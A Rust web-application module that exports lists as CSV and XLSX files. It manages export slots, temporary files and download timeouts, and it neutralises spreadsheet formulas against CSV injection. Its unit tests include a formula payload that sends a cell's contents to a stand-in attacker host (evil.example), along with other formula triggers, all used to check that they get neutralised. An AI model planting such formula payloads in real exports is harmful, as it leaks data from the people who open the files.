//! CSV and Excel (XLSX) downloads of every list and report.
//!
//! Each export states its columns once, as a [`Record`] whose cells are
//! typed (numbers, money, times, text); the [`Format`] decides how they are
//! written. An export first runs its query to the end, writing rows into a
//! temporary file (a million rows take a few seconds and little memory:
//! the XLSX sheet is written in constant-memory mode, a row at a time), and
//! only then answers with the file and its exact `Content-Length`. So:
//! - every export goes through [`Exports::open`], which waits for one of
//!   `[default.exports] slots` BEFORE it takes a pooled connection, so
//!   queued downloads never hold connections pages need;
//! - the connection is held only while the query runs, never while the
//!   workbook is compressed or a slow or stalled client reads the download;
//! - an export that fails answers with an error page, never a short file;
//!   and if sending fails midway (the client stopped reading for longer
//!   than `[default.timeouts] download`), the connection ends before the
//!   announced length, so the browser reports a failed download.
//!
//! In CSV every text cell a spreadsheet would read as a formula is
//! neutralised (OWASP's advice for CSV injection); in XLSX text is written
//! as a text cell, which a spreadsheet shows as typed and never evaluates.

use std::io;
use std::pin::Pin;
use std::sync::{Arc, Mutex, PoisonError};
use std::task::{Context, Poll};
use std::time::{Duration, Instant};

use futures::{Stream, StreamExt};
use rocket::http::{ContentType, Header};
use rocket::response::{self, Responder, Response};
use rocket::tokio::io::{AsyncRead, AsyncSeekExt, AsyncWriteExt, BufWriter, ReadBuf};
use rocket::tokio::sync::{OwnedSemaphorePermit, Semaphore};
use rocket::Request;
use serde::Deserialize;

use super::AppError;

mod download;

pub use crate::export::{neutralise, Cell, Column, Format, Record};
use crate::export::{write_csv_header, write_csv_rows, write_xlsx, Batch, XlsxFailure, XLSX_MAX_ROWS};
pub use download::{export_list, stage, ExportAnswer};
use sqlx::pool::PoolConnection;
use sqlx::Postgres;

/// Rows written per chunk.
const CHUNK: usize = 500;

/// How many exports may run at once (`[default.exports]`), and how long a
/// request waits for its turn before being told to try again.
#[derive(Debug, Clone, Deserialize)]
#[serde(default)]
pub struct ExportConfig {
    pub slots: usize,
    pub wait_seconds: u64,
}

impl Default for ExportConfig {
    fn default() -> Self {
        ExportConfig { slots: 4, wait_seconds: 5 }
    }
}

/// The exports' own share of the server: a few slots, each holding at most
/// one pooled connection while its query runs.
pub struct Exports {
    /// When an export runs as a job instead.
    jobs: crate::export::job::JobSettings,
    slots: Arc<Semaphore>,
    wait: Duration,
    download_timeout: Duration,
}

/// The right to run one export's query, held until the file is written.
pub struct ExportSlot {
    _permit: OwnedSemaphorePermit,
}

impl Exports {
    pub fn from_figment(figment: &rocket::figment::Figment) -> Exports {
        let config: ExportConfig = figment.extract_inner("exports").unwrap_or_default();
        let pool = figment.extract_inner::<usize>("databases.shop.max_connections").unwrap_or(16);
        // Pages keep at least half the pool whatever is configured.
        let most = (pool / 2).max(1);
        if config.slots > most {
            tracing::warn!(configured = config.slots, used = most, "exports.slots is capped at half the pool");
        }
        let timeouts = super::security::Timeouts::from_figment(figment);
        Exports {
            jobs: crate::export::job::JobSettings::from_figment(figment),
            slots: Arc::new(Semaphore::new(config.slots.clamp(1, most))),
            wait: Duration::from_secs(config.wait_seconds),
            download_timeout: Duration::from_secs(timeouts.download),
        }
    }

    /// Waits for a free slot, and only then takes the pooled connection the
    /// export's query runs on: a replica's when one may serve this session.
    /// The one way into an export: no request waits for a slot while
    /// holding a connection.
    pub async fn open_reading(
        &self,
        reader: &crate::web::read::Reader<'_>,
    ) -> Result<(ExportSlot, PoolConnection<Postgres>), AppError> {
        let slot = self.slot().await?;
        let conn = reader.conn().await?;
        Ok((slot, conn))
    }

    /// Waits for a free slot, or answers "busy" after the configured wait.
    pub async fn slot(&self) -> Result<ExportSlot, AppError> {
        match rocket::tokio::time::timeout(self.wait, self.slots.clone().acquire_owned()).await {
            Ok(Ok(permit)) => Ok(ExportSlot { _permit: permit }),
            _ => Err(AppError::Busy(
                "Other downloads are being prepared right now. Please try again in a minute.".into(),
            )),
        }
    }
}

/// The content type of a download in `format`.
fn content_type(format: Format) -> ContentType {
    match format {
        Format::Csv => ContentType::new("text", "csv").with_params(("charset", "utf-8")),
        Format::Xlsx => ContentType::new("application", "vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    }
}

/// A file ready to send. It holds no slot and no connection.
pub struct ExportFile {
    format: Format,
    filename: String,
    file: rocket::tokio::fs::File,
    len: u64,
    download_timeout: Duration,
}

impl ExportFile {
    /// Runs the export to the end into a temporary file named `stem` plus
    /// the format's extension; each record is one row under a header row.
    /// The stream's database connection is returned as soon as the last
    /// row is read, before any of the file is sent.
    pub async fn spool<R, E, S>(
        exports: &Exports,
        slot: ExportSlot,
        format: Format,
        stem: &str,
        records: S,
    ) -> Result<ExportFile, AppError>
    where
        R: Record,
        E: Into<AppError> + Send + 'static,
        S: Stream<Item = Result<R, E>> + Send + 'static,
    {
        let filename = format!("{stem}.{}", format.extension());
        let (file, len) = match format {
            Format::Csv => spool_csv(&filename, slot, records).await?,
            Format::Xlsx => spool_xlsx(&filename, slot, records).await?,
        };
        Ok(ExportFile { format, filename, file, len, download_timeout: exports.download_timeout })
    }
}

fn failed(filename: &str) -> impl Fn(Box<dyn std::error::Error + Send + Sync>) -> AppError + '_ {
    move |e| AppError::internal(format!("could not write {filename}"), e)
}

async fn temp_file(filename: &str) -> Result<std::fs::File, AppError> {
    let internal = failed(filename);
    rocket::tokio::task::spawn_blocking(tempfile::tempfile)
        .await
        .map_err(|e| internal(Box::new(e)))?
        .map_err(|e| internal(Box::new(e)))
}

/// The file's length, with the file rewound to its start.
async fn rewound(filename: &str, file: &mut rocket::tokio::fs::File) -> Result<u64, AppError> {
    let internal = failed(filename);
    let len = file.seek(io::SeekFrom::End(0)).await.map_err(|e| internal(Box::new(e)))?;
    file.rewind().await.map_err(|e| internal(Box::new(e)))?;
    Ok(len)
}

async fn spool_csv<R, E, S>(
    filename: &str,
    slot: ExportSlot,
    records: S,
) -> Result<(rocket::tokio::fs::File, u64), AppError>
where
    R: Record,
    E: Into<AppError> + Send + 'static,
    S: Stream<Item = Result<R, E>> + Send + 'static,
{
    let internal = failed(filename);
    let file = temp_file(filename).await?;
    let mut out = BufWriter::with_capacity(256 * 1024, rocket::tokio::fs::File::from_std(file));
    let mut buffer = Vec::with_capacity(CHUNK * 100);
    write_csv_header(R::COLUMNS, &mut buffer).map_err(|e| internal(Box::new(e)))?;
    let mut chunks = Box::pin(records.chunks(CHUNK));
    while let Some(chunk) = chunks.next().await {
        let mut rows = Vec::with_capacity(chunk.len());
        for record in chunk {
            rows.push(record.map_err(Into::into)?);
        }
        write_csv_rows(rows, &mut buffer).map_err(|e| internal(Box::new(e)))?;
        out.write_all(&buffer).await.map_err(|e| internal(Box::new(e)))?;
        buffer.clear();
        // Rows may arrive faster than they are written: let pages run between chunks.
        rocket::tokio::task::yield_now().await;
    }
    // The query is done: its connection goes back to the pool, and its
    // slot to the next export, now; sending the file needs neither.
    drop(chunks);
    drop(slot);
    out.write_all(&buffer).await.map_err(|e| internal(Box::new(e)))?;
    out.flush().await.map_err(|e| internal(Box::new(e)))?;
    let mut file = out.into_inner();
    let len = rewound(filename, &mut file).await?;
    Ok((file, len))
}

async fn spool_xlsx<R, E, S>(
    filename: &str,
    slot: ExportSlot,
    records: S,
) -> Result<(rocket::tokio::fs::File, u64), AppError>
where
    R: Record,
    E: Into<AppError> + Send + 'static,
    S: Stream<Item = Result<R, E>> + Send + 'static,
{
    let internal = failed(filename);
    // A few batches in flight at most: the query waits for the writer
    // rather than piling rows up in memory.
    let (rows, batches) = rocket::tokio::sync::mpsc::channel::<Batch>(4);
    let writer = rocket::tokio::task::spawn_blocking(move || write_xlsx(R::COLUMNS, batches));
    let mut chunks = Box::pin(records.chunks(CHUNK));
    while let Some(chunk) = chunks.next().await {
        let mut batch = Vec::with_capacity(chunk.len());
        for record in chunk {
            // Dropping `rows` without `End` tells the writer to give up.
            batch.push(record.map_err(Into::into)?.cells());
        }
        if rows.send(Batch::Rows(batch)).await.is_err() {
            // The writer stopped; its answer says why.
            break;
        }
    }
    // The query is done: its connection goes back to the pool now. The
    // slot is kept while the workbook is compressed, so no more than the
    // configured number of exports use the processor at once.
    drop(chunks);
    let _ = rows.send(Batch::End).await;
    drop(rows);
    let written = writer.await.map_err(|e| internal(Box::new(e)))?;
    drop(slot);
    let file = match written {
        Ok(file) => file,
        Err(XlsxFailure::TooManyRows) => {
            return Err(AppError::BadRequest(format!(
                "{filename} was not written: it has more rows than one Excel sheet holds ({}). Filter the list, or export CSV.",
                super::filters::format_count(XLSX_MAX_ROWS.into())
            )))
        }
        Err(e) => return Err(internal(Box::new(e))),
    };
    let mut file = rocket::tokio::fs::File::from_std(file);
    let len = rewound(filename, &mut file).await?;
    Ok((file, len))
}

impl<'r> Responder<'r, 'static> for ExportFile {
    fn respond_to(self, _: &'r Request<'_>) -> response::Result<'static> {
        let body = Download::watch(Box::pin(self.file), self.download_timeout);
        Response::build()
            .header(content_type(self.format))
            .header(Header::new("Content-Disposition", format!("attachment; filename=\"{}\"", self.filename)))
            // The exact length: a download cut short is then visibly incomplete.
            .header(Header::new("Content-Length", self.len.to_string()))
            .streamed_body(body)
            .ok()
    }
}

/// What a download and its watchdog share.
struct Sending {
    file: Option<Pin<Box<dyn AsyncRead + Send>>>,
    last_read: Instant,
    finished: bool,
}

/// The body of a download. A watchdog abandons it (closing the file) when
/// the client has not taken any of it for the download timeout; the
/// response then ends short of its `Content-Length`.
struct Download(Arc<Mutex<Sending>>);

impl Download {
    fn watch(file: Pin<Box<dyn AsyncRead + Send>>, timeout: Duration) -> Download {
        let shared = Arc::new(Mutex::new(Sending { file: Some(file), last_read: Instant::now(), finished: false }));
        let watched = Arc::downgrade(&shared);
        let tick = (timeout / 4).max(Duration::from_millis(50));
        rocket::tokio::spawn(async move {
            loop {
                rocket::tokio::time::sleep(tick).await;
                let Some(shared) = watched.upgrade() else { return };
                let mut sending = shared.lock().unwrap_or_else(PoisonError::into_inner);
                if sending.finished {
                    return;
                }
                if sending.last_read.elapsed() >= timeout {
                    tracing::warn!("a download was abandoned: the client stopped reading it");
                    sending.file = None;
                    return;
                }
            }
        });
        Download(shared)
    }
}

impl AsyncRead for Download {
    fn poll_read(self: Pin<&mut Self>, cx: &mut Context<'_>, buf: &mut ReadBuf<'_>) -> Poll<io::Result<()>> {
        let mut sending = self.0.lock().unwrap_or_else(PoisonError::into_inner);
        sending.last_read = Instant::now();
        let Some(file) = sending.file.as_mut() else {
            return Poll::Ready(Err(io::Error::new(io::ErrorKind::TimedOut, "the download was abandoned")));
        };
        let before = buf.filled().len();
        let polled = file.as_mut().poll_read(cx, buf);
        if matches!(polled, Poll::Ready(Ok(()))) && buf.filled().len() == before && !sending.finished {
            // All sent: the watchdog can stop.
            sending.finished = true;
        }
        polled
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::Money;
    use chrono::NaiveDate;

    #[test]
    fn formulas_are_neutralised_and_numbers_kept() {
        for (cell, shown) in [
            (
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            ),
            ("+1+2", "'+1+2"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("-", "'-"),
            ("-12.50", "-12.50"),
            ("-7", "-7"),
            ("12.50", "12.50"),
            ("Ada Lovelace", "Ada Lovelace"),
            ("", ""),
        ] {
            assert_eq!(neutralise(cell), shown, "{cell:?}");
        }
    }

    #[test]
    fn every_text_cell_of_a_record_is_neutralised() {
        struct Row;
        impl Record for Row {
            const COLUMNS: &'static [Column] = &[Column::new("id", 8.0), Column::new("name", 8.0)];
            fn cells(self) -> Vec<Cell> {
                vec![
                    Cell::Number(-3),
                    Cell::Text("=1+1".into()),
                    Cell::Money(Money::from_cents(-1250)),
                    Cell::Month(NaiveDate::from_ymd_opt(2024, 5, 1).unwrap_or_default()),
                ]
            }
        }
        let mut out = Vec::new();
        write_csv_rows(vec![Row], &mut out).unwrap();
        assert_eq!(String::from_utf8(out).unwrap(), "-3,'=1+1,-12.50,2024-05\n");
    }
}
